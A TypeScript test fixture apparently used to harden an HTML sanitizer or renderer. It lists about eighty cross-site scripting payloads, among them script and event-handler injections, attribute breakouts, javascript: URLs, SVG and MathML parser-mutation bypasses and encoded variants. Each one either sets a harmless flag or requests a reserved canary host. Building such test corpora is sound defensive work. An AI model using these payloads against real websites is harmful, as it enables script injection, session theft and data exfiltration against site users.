/** A host that no page may ever request. */
export const CANARY_HOST = 'canary.invalid'

const RUN = 'window.hit=1'

/**
 * Payloads: texts that a careless page would run. Each sets `window.hit`, opens a dialog or requests CANARY_HOST.
 * Payloads that swallow the text behind them stand last, so that all of them can be joined to one text.
 */
export const XSS_CORPUS: readonly string[] = [
  // Tags.
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=//${CANARY_HOST}/x.js></script>`,
  `<script type=module>import('//${CANARY_HOST}/m.js')</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=//${CANARY_HOST}/p.png>`,
  `<img srcset="//${CANARY_HOST}/s.png 1x">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p style="animation:none 1s" onanimationstart=${RUN}>x</p>`,
  `<p style="background:url(//${CANARY_HOST}/b.png)">x</p>`,
  `<link rel=stylesheet href=//${CANARY_HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY_HOST}/">`,
  `<base href=https://${CANARY_HOST}/>`,
  `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
  `<embed src=//${CANARY_HOST}/e.swf>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<form action=https://${CANARY_HOST}/><button autofocus>x</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  // Breaking out of an attribute.
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus=${RUN} x="`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `x" style="background:url(//${CANARY_HOST}/a.png)`,
  `</option></select><img src=x onerror=${RUN}>`,
  // Addresses that run.
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//${CANARY_HOST}" ping="//${CANARY_HOST}/ping">x</a>`,
  // SVG and MathML.
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  // Broken markup that a parser repairs to something else.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<table><td><form></table><img src=x onerror=${RUN}>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  // Encoded, unicode, control characters.
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `<img src=x one\u0000rror=${RUN}>`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
  `\u202e<img src=x onerror=${RUN}>`,
  // Breaking out of scripts, data and templates.
  `</script><script>${RUN}</script>`,
  `</script><img src=x onerror=${RUN}>`,
  `"};${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `]]><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  // These swallow the rest of a careless page.
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>`,
  `<style><img title="</style><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--<script><img src=x onerror=${RUN}>`,
]

/** Joins the corpus to as few texts of `max` characters as possible. Longer payloads are left out. */
export function packed(max: number): string[] {
  const texts: string[] = ['']
  for (const payload of XSS_CORPUS) {
    if (payload.length > max) continue
    const longer = `${texts.at(-1) ?? ''}${payload}`
    if (longer.length <= max) texts[texts.length - 1] = longer
    else texts.push(payload)
  }
  return texts
}
